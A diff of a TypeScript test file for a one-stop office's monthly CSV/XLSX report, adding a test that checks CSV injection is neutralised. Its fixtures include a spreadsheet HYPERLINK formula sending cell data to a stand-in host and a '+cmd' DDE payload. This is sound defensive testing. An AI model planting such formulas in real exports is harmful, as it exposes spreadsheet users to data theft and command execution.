@@ -1,7 +1,8 @@
 /** The monthly one-stop figures: who is counted where, and the CSV and XLSX a monitoring office downloads. */
 import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
-import { lateSinceOf, monthlyReport, reportCsv, reportFigures, type FileRecord } from '../../domain/onestop/report';
+import { lateSinceOf, monthlyReport, reportFigures, type FileRecord } from '../../domain/onestop/report';
+import { reportCsv } from '../../domain/onestop/report-csv';
 import { reportXlsx } from '../../activities/onestop';
 
 const TNMT = 'Phòng Tài nguyên và Môi trường';
@@ -140,6 +141,17 @@ describe('monthlyReport', () => {
       'Toàn đơn vị,7,4,1,1,2,4,2,50,2,2,1,1',
       '',
     ]);
+  });
+
+  it('as CSV: an agency name a spreadsheet would run as a formula is written as text (CSV injection)', () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\tTab', 'Phòng; Ban'];
+    const hostile = names.map((agency, i) => record(`h${i}`, { firstAgency: agency, holder: agency, receivedOn: '2037-03-03' }));
+    const csv = reportCsv(monthlyReport(hostile, '2037-03', { asOf: '2037-04-01' }));
+    const cells = csv.slice(1).split('\r\n').slice(1, -2).map((line) => line.slice(0, line.lastIndexOf(',1,0,0,0,0,0,0,,0,0,0,0')));
+    expect(cells.sort()).toEqual(
+      [`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`, `'+cmd|' /C calc'!A0`, `'-2+3`, `"'@SUM(1,1)"`, `'\tTab`, '"Phòng; Ban"'].sort(),
+    );
+    for (const line of csv.slice(1).split('\r\n')) expect(line).not.toMatch(/^"?[=+\-@\t]/);
   });
 
   it('as XLSX: a sheet with the title, the headings, the rows and the total in bold', async () => {
